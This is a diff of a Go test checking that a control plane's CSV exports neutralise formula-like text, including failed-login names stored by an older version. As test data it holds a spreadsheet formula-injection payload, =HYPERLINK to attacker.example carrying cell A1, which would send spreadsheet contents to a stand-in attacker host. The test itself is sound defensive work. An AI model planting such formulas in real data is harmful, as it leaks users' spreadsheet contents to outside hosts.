@@ -60,7 +60,8 @@ func rowOf(t *testing.T, what string, rows [][]string, col int, v string) []stri
 
 // TestCSVExportsNeutraliseFormulas: text that starts like a formula, put
 // in by an administrator (a bridge's name, area, contact) or by anybody at
-// all (the name of a failed login), comes out of every CSV export with a
+// all (the name of a failed login, as an earlier version logged it), comes
+// out of every CSV export with a
 // quote in front (the registry from the API and the command line, the
 // attendance record, the audit log); the registry's export imports back
 // to exactly the same registry.
@@ -70,12 +71,19 @@ func TestCSVExportsNeutraliseFormulas(t *testing.T) {
 	if err := ts.store.SetPassword("admin", "csv-pass-1"); err != nil {
 		t.Fatal(err)
 	}
-	// Without any credential: two failed logins.
+	// Without any credential: a login's name can no longer carry a
+	// formula into the audit log (no login has such a name: 400, nothing
+	// written), but a log written by an earlier version holds failed
+	// logins under whatever name was typed. Such entries, stored as that
+	// version stored them, must come out neutralised.
 	evil := `=HYPERLINK("http://attacker.example/?"&A1,"open")`
 	for _, name := range []string{evil, "\t=1+1"} {
 		body, _ := json.Marshal(map[string]string{"name": name, "password": "nope"})
-		if code, b := sameOrigin(t, ts, ts.client, "POST", "/api/login", "", string(body)); code != http.StatusUnauthorized {
-			t.Fatalf("failed login: %d %s", code, b)
+		if code, b := sameOrigin(t, ts, ts.client, "POST", "/api/login", "", string(body)); code != http.StatusBadRequest {
+			t.Fatalf("a login named %q: %d %s, want 400", name, code, b)
+		}
+		if err := ts.store.Audit(controlplane.AuditEntry{Who: name, Action: "login", Result: "bad_login", Remote: "10.0.0.9"}); err != nil {
+			t.Fatal(err)
 		}
 	}
 	admin := cookieClient(ts)
